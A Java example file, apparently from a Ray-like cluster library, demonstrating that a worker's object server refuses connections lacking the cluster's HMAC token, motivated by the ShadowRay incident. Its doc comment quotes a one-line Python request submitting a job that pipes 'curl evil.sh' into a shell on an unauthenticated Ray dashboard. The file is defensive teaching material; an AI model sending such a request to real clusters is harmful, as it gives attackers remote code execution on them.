package dev.rosetta.examples.ray;

import dev.rosetta.ray.Intruder;
import dev.rosetta.ray.ObjectLocation;
import dev.rosetta.ray.ObjectRef;
import dev.rosetta.ray.Ray;

/**
 * A connection without the cluster's token is refused: the lesson of "ShadowRay".
 *
 * <pre>{@code
 * # Ray's dashboard and jobs API (port 8265) listen without authentication, by design: "run Ray
 * # in a trusted network". CVE-2023-48022; in 2024, as "ShadowRay", attackers who could reach
 * # the port ran their own code on exposed clusters, with one request:
 * import requests
 * requests.post("http://cluster:8265/api/jobs/", json={"entrypoint": "curl evil.sh | sh"})  # accepted
 *
 * # multiprocessing shows the cure: a listener with an authkey challenges every connection
 * import secrets
 * from multiprocessing.connection import Listener, Client
 * listener = Listener(("127.0.0.1", 0), authkey=secrets.token_bytes(32))
 * Client(listener.address, authkey=b"a guess")
 * # client: AuthenticationError: digest sent was rejected
 * # server: AuthenticationError: digest received was wrong
 * }</pre>
 *
 * Here every process of the cluster runs an object server on 127.0.0.1, through which large
 * values go worker to worker. Each connection must first answer a challenge (an HMAC of random
 * bytes under the cluster's secret token, which the workers received over their standard input).
 * This main knocks on a worker's server twice without the token — a plain request, as the
 * attackers sent, and a guessed token — and each time hears the challenge, then
 * {@code #FAILURE#}, then nothing: the server hangs up. The worker logs each refusal on standard
 * error. The cluster's own fetch of the same object, with the token, works.
 */
public final class NoTokenRefused {
    private NoTokenRefused() {
    }

    public static void main(String[] args) {
        try (Ray ray = Ray.init(2)) {
            // a 1 MB result is over the 100 KiB inline limit: it stays in the worker that made it
            ObjectRef<byte[]> kept = ray.remote((Integer n) -> new byte[n]).remote(1_000_000);
            ObjectLocation where = ray.objectLocation(kept).orElseThrow();
            System.out.println("a 1 MB result is kept by worker pid " + where.pid() + "; its object server: "
                    + where.host() + ":" + where.port());

            Intruder.Knock plain = Intruder.withoutToken(where.port(), "POST /api/jobs/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n");
            System.out.println("a plain request (no token): heard " + plain.heard() + ", then closed: " + plain.closed());
            System.out.println("refused: " + plain.refused());

            Intruder.Knock guessed = Intruder.withGuessedToken(where.port());
            System.out.println("a guessed token: heard " + guessed.heard() + ", then closed: " + guessed.closed());
            System.out.println("refused: " + guessed.refused());

            System.out.println("the cluster's own get, with the token: " + ray.get(kept).length + " bytes");
        }
    }
}
